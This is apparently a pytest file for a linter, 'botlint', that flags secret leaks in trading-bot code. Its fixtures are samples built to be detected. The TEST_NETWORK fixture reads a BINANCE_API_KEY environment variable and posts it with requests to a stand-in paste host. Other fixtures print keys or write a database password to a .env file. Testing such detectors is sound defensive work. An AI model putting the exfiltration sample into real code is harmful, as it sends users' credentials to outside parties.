"""BOT2 round 8: shapes missed or wrongly reported on freshly written bots, each built as a
general pattern in several variants (names, sync/async, across modules with ``from pkg.mod
import f`` and script-style ``import mod``, methods and functions) with negatives.

Projects are written to a temporary tree and linted end to end (``lint_paths``: the link step
across modules included).
"""
from __future__ import annotations

from typing import Dict, List, Tuple

import pytest

from botlint.engine import lint_paths

from helpers import settings


def run(tmp_path, files: Dict[str, str]) -> List[Tuple[str, int, str, str]]:
    """(path, line, code, message) of the BOT2 findings of a project."""
    for rel, text in files.items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    res = lint_paths([str(tmp_path)], settings(["BOT2"]), use_cache=False)
    root = str(tmp_path) + "/"
    return sorted((f.path.replace(root, ""), f.location.line, f.code, f.message) for f in res.findings)


def where(found) -> List[Tuple[str, int, str]]:
    return [(p, line, code) for p, line, code, _m in found]


# -- 11. test files: local sinks are not reported, network sinks are kept lower ----------------

TEST_DOUBLES = '''import os
import pytest


def test_validation_failure(monkeypatch):
    api_key = os.environ.get("EXCHANGE_API_KEY", "k")

    def fake_validate(key):
        raise failure(f"provider said no to {api_key}")

    stored = submit(api_key=api_key)
    assert stored["status"] == "success", stored
    print("using", api_key)


def test_harness_env_file(tmp_path):
    password = os.environ["TEST_DB_PASSWORD"]
    (tmp_path / ".env").write_text(f"DB_PASSWORD={password}\\n")
'''

TEST_NETWORK = '''import os
import requests


def test_posts_the_key():
    key = os.environ["BINANCE_API_KEY"]
    requests.post("https://paste.example.net/api", data={"k": key})
'''


def test_local_sinks_are_not_reported_in_test_files(tmp_path):
    found = run(tmp_path, {"tests/test_validate.py": TEST_DOUBLES, "tests/conftest.py": TEST_DOUBLES,
                           "test_harness.py": TEST_DOUBLES})
    assert found == []
    # the same code outside a test path is reported
    found = run(tmp_path, {"bot/harness.py": TEST_DOUBLES})
    assert {code for p, _l, code, _m in found if p == "bot/harness.py"} >= {"BOT201", "BOT202", "BOT204"}


def test_network_sinks_in_test_files_are_kept_one_severity_lower(tmp_path):
    for rel, text in {"tests/test_net.py": TEST_NETWORK, "bot/net.py": TEST_NETWORK}.items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    res = lint_paths([str(tmp_path)], settings(["BOT2"]), use_cache=False)
    by_file = {f.path.rsplit("/", 1)[-1]: f for f in res.findings}
    assert by_file["net.py"].code == by_file["test_net.py"].code == "BOT205"
    assert by_file["net.py"].severity.label == "critical" and by_file["test_net.py"].severity.label == "high"
